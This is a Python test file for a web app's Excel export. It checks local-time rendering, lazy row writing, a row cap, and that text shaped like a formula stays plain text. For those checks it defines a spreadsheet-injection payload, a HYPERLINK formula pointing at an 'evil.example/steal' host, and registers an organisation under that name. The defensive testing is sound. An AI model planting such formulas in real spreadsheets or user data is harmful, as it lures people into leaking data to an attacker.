"""Excel export: values rendered for people (local time, 是/否, JSON), and text never becomes a formula."""

from __future__ import annotations

import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from conftest import credit_code_for
from smedt.core.export import write_xlsx, xlsx_bytes
from smedt.core.tests.helpers import solve_captcha
from smedt.exports.testing import export_start

FORMULA = '=HYPERLINK("http://evil.example/steal","点击查看")'


def _cells(data: bytes):
    return [list(row) for row in load_workbook(io.BytesIO(data)).worksheets[0].iter_rows()]


def _values(data: bytes):
    return [
        tuple(row) for row in load_workbook(io.BytesIO(data), read_only=True).worksheets[0].iter_rows(values_only=True)
    ]


def test_values_are_rendered_for_people(settings):
    settings.TIME_ZONE = "Asia/Shanghai"
    rows = [
        {"t": datetime(2026, 1, 1, 0, 30, tzinfo=UTC), "b": True, "n": None, "j": {"名称": "甲", "数": [1, 2]}, "i": 7}
    ]

    res = xlsx_bytes(
        sheet="工作表",
        columns=[
            ("时间", lambda r: r["t"]),
            ("是否", lambda r: r["b"]),
            ("空", lambda r: r["n"]),
            ("变更", lambda r: r["j"]),
            ("数量", lambda r: r["i"]),
        ],
        rows=rows,
    )

    assert _values(res) == [
        ("时间", "是否", "空", "变更", "数量"),
        ("2026-01-01 08:30:00", "是", None, '{"名称": "甲", "数": [1, 2]}', 7),
    ]


def test_rows_are_consumed_lazily_and_progress_is_reported():
    seen: list[int] = []
    buf = io.BytesIO()
    written = write_xlsx(
        buf, sheet="x", columns=[("n", lambda r: r)], rows=iter(range(1000)), progress=seen.append, every=300
    )
    rows = _values(buf.getvalue())
    assert written == 1000 and len(rows) == 1001 and rows[-1] == (999,)
    assert seen == [300, 600, 900]


def test_the_row_cap_stops_the_file():
    buf = io.BytesIO()
    assert write_xlsx(buf, sheet="x", columns=[("n", lambda r: r)], rows=iter(range(50)), max_rows=10) == 10
    assert len(_values(buf.getvalue())) == 11


def test_text_that_looks_like_a_formula_stays_text():
    res = xlsx_bytes(sheet="x", columns=[("名称", lambda r: r)], rows=[FORMULA])

    cell = _cells(res)[1][0]
    assert cell.data_type == "s"
    assert cell.value == FORMULA


@pytest.mark.django_db
def test_a_registered_name_cannot_plant_a_formula_in_the_city_export(api, city_admin):
    # given an anonymous visitor registers an organization named like a formula
    client = api()
    res = client.post(
        "/api/orgs/register",
        {
            "org_name": FORMULA,
            "credit_code": credit_code_for("410702"),
            "kind": "enterprise",
            "region_code": "410702",
            "contact_name": "王",
            "contact_phone": "13811112222",
            "username": "formula_co",
            "password": "Formula@2026pass",
            "captcha_id": solve_captcha(client),
            "captcha_answer": "ABCD",
        },
    )
    assert res.status_code == 201, res.content

    # when the city administrator exports the organizations (a background job)
    from smedt.core.testing import run_queued_tasks

    city = api(city_admin)
    job = export_start(city, "orgs").json()
    run_queued_tasks()
    cells = _cells(b"".join(city.get(f"/api/exports/{job['id']}/download").streaming_content))

    # then the name is plain text in the workbook
    [name] = [row[0] for row in cells[1:] if str(row[0].value).startswith("=")]
    assert name.data_type == "s"
